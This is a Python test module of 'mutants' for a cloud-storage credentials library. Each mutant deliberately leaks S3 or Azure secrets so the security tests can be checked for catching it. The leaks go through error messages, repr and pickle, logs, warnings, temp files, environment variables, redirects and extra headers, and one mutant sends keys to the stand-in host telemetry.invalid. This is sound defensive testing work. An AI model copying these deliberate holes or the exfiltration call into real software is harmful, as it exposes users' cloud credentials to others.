"""
Mutants that give secrets away: one or more for each place where one can turn up.
"""

from __future__ import annotations

import json
import os
import subprocess
import tempfile
import urllib.parse
import urllib.request
import warnings
from contextlib import suppress
from typing import TYPE_CHECKING, Any

from deeplake_ref import storage
from deeplake_ref.credentials import (
    aws,
    aws_process,
    aws_quiet,
    azure_arguments,
    azure_login,
    azure_machine,
    azure_texts,
    chain,
)
from deeplake_ref.errors import CredentialsUnavailableError, StorageError
from deeplake_ref.stores import azure_client, azure_errors, s3, s3_client
from tests.mutants.registry import Replacements, mutant, replaced

if TYPE_CHECKING:
    from collections.abc import Callable

WORLDS = "worlds.toml"

S3, AZ = ("moto",), ("azurite",)


def keys_of(client: Any) -> dict[str, str]:
    """Return the keys that a client of botocore's signs with."""
    frozen = client._request_signer._credentials.get_frozen_credentials()
    return {"secret": frozen.secret_key, "token": frozen.token or ""}


def connected(then: Callable[[Any], None]) -> Replacements:
    """Do something with each new client of S3."""
    right = s3_client.connect

    def connect(*arguments: Any) -> Any:
        client = right(*arguments)
        then(client)
        return client

    return replaced(s3, connect=connect)


# ---- errors


@mutant("F142", kills="SEC-1", places=S3, claims=WORLDS, cases=("aws_process(telling)",))
def the_complaint_of_a_process_is_told(_target: Any) -> Replacements:
    """Puts what a credential_process wrote to stderr into the message."""

    def runner(timeout_s: float, subject: str) -> Any:
        def run(command: list[str], **_pipes: Any) -> Any:
            done = subprocess.run(command, capture_output=True, check=False, timeout=timeout_s)
            if done.returncode:
                raise CredentialsUnavailableError(f"{subject} failed: {done.stderr.decode()}")
            return aws_process.Finished(done.stdout)

        return run

    return replaced(aws_process, runner=runner)


@mutant("F128", kills="SEC-1", places=AZ, claims=WORLDS, cases=("azure_dict_sas_token",), origin="milvus-io/talon#116")
def the_foreign_exception_is_kept(_target: Any) -> Replacements:
    """Keeps the exception of the transport as the cause, with the signed URL in its text."""
    return replaced(azure_errors, redacted=lambda error, **_about: error)


@mutant(kills="SEC-1", places=AZ, claims=WORLDS, cases=("azure_cli(compact-noise)",))
def the_output_of_az_is_told(_target: Any) -> Replacements:
    """Repeats what azure-identity says of `az`, whose compact JSON it does not blot out."""

    def failure(self: Any, error: Exception) -> Exception:
        return CredentialsUnavailableError(f"{self.name}: {error}", provider="az", effect="none")

    return replaced(azure_login.AzureLogin, _failure=failure)


@mutant(kills="SEC-1", places=AZ, claims=WORLDS, cases=("azure_env_key(not-base64)",))
def a_key_that_is_none_is_repeated(_target: Any) -> Replacements:
    """Shows the text that is not base64, which may be a password that was pasted there."""
    right = azure_texts._account_key

    def account_key(text: str, where: str) -> Any:
        try:
            return right(text, where)
        except StorageError as error:
            raise azure_texts.invalid(f"{error}: {text}") from None

    return replaced(azure_texts, _account_key=account_key)


# ---- texts


@mutant("F127", kills="SEC-2", places=S3, claims=WORLDS, cases=("aws_dict with token",), origin="apache/opendal#7523")
def what_a_handle_shares_shows_its_creds(_target: Any) -> Replacements:
    """Prints the creds with what a handle shares."""
    return replaced(storage._Shared, __repr__=lambda self: f"_Shared({self._creds.reveal()})")


@mutant("F127", kills="SEC-2", places=AZ, claims=WORLDS, cases=("azure_dict_account_key",))
def an_explanation_shows_the_key(target: Any) -> Replacements:
    """Tells the whole creds as the place that requests go to."""
    right = target.explain

    def explain(url: str, creds: Any = None, token: Any = None) -> Any:
        from dataclasses import replace

        told = right(url, creds, token)
        return replace(told, endpoint=f"{creds}")

    return replaced(target, explain=explain)


# ---- logs, output


@mutant(
    "F132",
    kills="SEC-3",
    places=S3,
    claims=WORLDS,
    cases=("aws_web_identity",),
    origin="googleapis/google-auth-library-python#1756",
)
def the_sdk_logs_what_it_gets(_target: Any) -> Replacements:
    """Lets botocore log the answers of the token service at DEBUG."""
    return replaced(aws_quiet._Quiet, __enter__=lambda self: None, __exit__=lambda self, *exception: None)


@mutant(
    "F133",
    kills="SEC-3",
    places=AZ,
    claims=WORLDS,
    cases=("azure_dict_sas_token",),
    origin="jjjake/internetarchive#477",
)
def the_transport_logs_signed_urls(_target: Any) -> Replacements:
    """Lets urllib3 log the target of each request, signature and all."""
    return replaced(azure_client, _keep_signatures_out_of_logs=lambda: None)


@mutant(
    "F131",
    kills="SEC-4",
    places=S3,
    claims=WORLDS,
    cases=("aws_dict(unknown-field)+aws_env",),
    origin="Azure/Azurite#2740",
)
def a_warning_repeats_the_field(_target: Any) -> Replacements:
    """Warns of an unknown field of creds with its value."""
    right = chain.check_dictionary

    def check_dictionary(creds: Any, **about: Any) -> Any:
        for name, value in creds.items():
            if name not in aws.FIELDS:
                warnings.warn(f"unknown field {name}={value}", stacklevel=2)
        return right(creds, **about)

    return replaced(aws, check_dictionary=check_dictionary)


# ---- files, processes, pickles


@mutant(kills="SEC-5", places=S3, claims=WORLDS, cases=("aws_dict with token",))
def creds_are_left_in_a_file(_target: Any) -> Replacements:
    """Writes the keys into a temporary file that nobody removes, for a library that wants one."""

    def leave(client: Any) -> None:
        with tempfile.NamedTemporaryFile("w", suffix=".json", delete=False) as file:
            json.dump(keys_of(client), file)

    return connected(leave)


@mutant(kills="SEC-6", places=S3, claims=WORLDS, cases=("aws_dict with token",))
def creds_are_put_into_the_environment(_target: Any) -> Replacements:
    """Copies the keys into variables, which every child inherits."""

    def export(client: Any) -> None:
        os.environ["AWS_SECRET_ACCESS_KEY"] = keys_of(client)["secret"]

    return connected(export)


@mutant(kills="SEC-6", places=S3, claims=WORLDS, cases=("aws_process",))
def a_command_gets_what_it_gave(_target: Any) -> Replacements:
    """Hands the answer of a credential_process back to it as an argument, as a hint of what is known."""
    right = aws_process.runner

    def runner(timeout_s: float, subject: str) -> Any:
        run = right(timeout_s, subject)

        def twice(command: list[str], **pipes: Any) -> Any:
            first = run(command, **pipes)
            return run([*command, first.communicate()[0].decode()], **pipes)

        return twice

    return replaced(aws_process, runner=runner)


@mutant(kills="SEC-7", places=S3, claims=WORLDS, cases=("aws_dict with token",))
def a_handle_pickles_as_what_it_was_opened_with(_target: Any) -> Replacements:
    """Pickles a handle as what it was opened with."""
    return replaced(
        storage._Handle,
        __reduce_ex__=lambda self, _protocol: (type(self), (self.path, self._shared._creds.reveal())),
    )


# ---- requests


@mutant(
    "F130", kills="SEC-8", places=S3, claims=WORLDS, cases=("aws_env with token",), origin="activeloopai/deeplake#1917"
)
def the_token_is_reported(_target: Any) -> Replacements:
    """Reports each client to a host that counts users, with the token that names them."""

    def report(client: Any) -> None:
        # only where a proxy of the world's own stands before every host
        if os.environ.get("HTTP_PROXY", "").startswith("http://127.0.0.1:"):
            query = urllib.parse.urlencode(keys_of(client))
            with suppress(OSError):
                urllib.request.urlopen(f"http://telemetry.invalid/used?{query}", timeout=5).close()

    return connected(report)


@mutant(kills="SEC-8", places=S3, claims=WORLDS, cases=("aws_shared_file",))
def the_secret_is_sent_along(_target: Any) -> Replacements:
    """Sends the secret key in a header of its own, for a gateway that asks for it."""

    def send_along(client: Any) -> None:
        secret = keys_of(client)["secret"]

        def add(request: Any, **_event: object) -> None:
            request.headers["x-gateway-key"] = urllib.parse.quote(secret, safe="")

        client.meta.events.register("before-sign.s3", add)

    return connected(send_along)


@mutant("F129", kills="SEC-9", places=S3, claims=WORLDS, origin="rclone/rclone@9328763d1")
def a_redirect_is_followed_with_the_signature(_target: Any) -> Replacements:
    """Goes where the service redirects to, and signs there too."""

    def follow(client: Any) -> None:
        def needs_retry(response: Any, attempts: int, request_dict: dict[str, Any], **_event: object) -> int | None:
            if response is None or response[0].status_code not in (301, 302, 307, 308) or attempts > 1:
                return None
            request_dict["url"] = response[0].headers["location"]
            return 0

        client.meta.events.register_first("needs-retry.s3", needs_retry)

    return connected(follow)


@mutant(kills="SEC-10", places=AZ, claims=WORLDS)
def a_redirect_of_the_machine_is_followed(_target: Any) -> Replacements:
    """Goes where the identity endpoint redirects to, with the header that opens it."""

    def asked(url: str, query: Any, headers: Any, patience_s: float) -> tuple[int, Any]:
        import requests

        answer = requests.get(url, params=dict(query), headers=dict(headers), timeout=patience_s)
        return answer.status_code, azure_machine._json(answer.content)

    return replaced(azure_machine, _asked=asked)


@mutant(kills="SEC-11", places=S3, claims=WORLDS)
def the_winner_is_printed(_target: Any) -> Replacements:
    """Prints the credentials that a walk found, to see who won."""
    right = chain.Chain._walk

    def walk(self: Any) -> Any:
        found = right(self)
        print("found", found.source, found.credentials.signer.get_frozen_credentials())
        return found

    return replaced(chain.Chain, _walk=walk)


@mutant("F134", kills="AZURE-8", places=AZ, claims=WORLDS, cases=("azure_dict_account_key(key-of-aws)+azure_env_key",))
def keys_of_another_cloud_are_taken(_target: Any) -> Replacements:
    """Passes over fields of another cloud in the creds, instead of refusing them."""
    right = chain.check_dictionary

    def check_dictionary(creds: Any, **about: Any) -> Any:
        return right({name: value for name, value in creds.items() if name not in azure_arguments.FOREIGN}, **about)

    return replaced(azure_arguments, check_dictionary=check_dictionary)
